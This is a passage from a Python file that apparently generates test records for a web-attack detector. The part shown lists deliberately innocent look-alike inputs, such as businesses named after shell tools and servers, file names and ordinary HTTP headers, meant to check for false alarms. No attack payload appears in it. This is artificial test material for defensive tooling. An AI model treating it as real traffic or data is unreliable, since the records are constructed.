    ("Joomla Web Studio", "Via Roma 22, Bologna"),
    ("Drupal Camp Berlin e.V.", "Alexanderplatz 1, Berlin"),
    ("Kibana Yoga", "Calle del Sol 3, Valencia"),
    ("Spring Bakery", "8 Spring Street, Springfield"),
    ("Shell Station 24", "Route 9, Exit 14, Albany, NY"),
    ("Curl Up Cafe", "5 Book Lane, Hay-on-Wye"),
    ("Bash Events Ltd", "Party Place 7, Manchester"),
    ("Path Finder Tours", "Trailhead 2, Banff"),
    ("Pipe & Sons Plumbing", "Unit 3, Trade Park, Leeds"),
    ("Page Turner Books", "Market St 11, Oxford"),
    ("Citrix Road Garage", "2 Citrus Way, Orlando"),
    ("Tomcat Pet Grooming", "Cat Alley 9, Ghent"),
    ("Grafana Partners LLC", "500 Dashboard Ave, Austin, TX"),
    ("Laravel Meetup Lisbon", "Rua Augusta 100, Lisboa"),
    ("Magento Shop Team", "Keizersgracht 1, Amsterdam"),
    ("Include Dance Company", "Stage Door 4, Glasgow"),
    ("Seán O'Dwyer", "Main Street 4, Kilkenny"),
    ("Zoë Château-Roux", "12 Rue de la Paix, Paris"),
]
UPLOAD_NAMES = [
    "grafana-dashboard.json", "confluence-export.pdf", "password-policy.pdf", "users-export.csv",
    "nginx-access-2024-05-01.log", "install-notes.txt", "setup.ps1.txt", "Q1 report (final).pdf",
    "jira-tickets.csv", "wp-backup-plan.docx", "network diagram.png", "firewall-rules.xlsx",
    "tomcat-server.xml.txt", "web.config.sample.txt", "screenshot 2024-05-02 at 09.14.55.png", "id-card.jpg",
    "shellshock-slides.pptx", "path-traversal-report.pdf", "backup-schedule.xlsx", "team photo.jpeg",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.9)"),
    ("User-Agent", "WordPress/6.5.3; https://blog.example.com"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "Go-http-client/1.1"),
    ("User-Agent", "Zabbix"),
    ("Referer", "https://grafana.example.com/d/edge/edge-overview?orgId=1&from=now-6h&to=now"),
    ("Referer", "https://confluence.example.com/display/OPS/Runbook+-+Edge+Gateway"),
    ("Referer", "https://jira.example.com/browse/SEC-412"),
    ("Referer", "https://www.google.com/search?q=tomcat+cgi+servlet+configuration"),
    ("Referer", "https://github.com/acme/edge/blob/main/docs/include.md"),
    ("Referer", "https://wiki.example.com/index.php?title=Backup_Policy&action=edit"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; last_page=%2Fadmin%2Fusers"),
    ("X-Forwarded-For", "203.0.113.10, 198.51.100.7"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
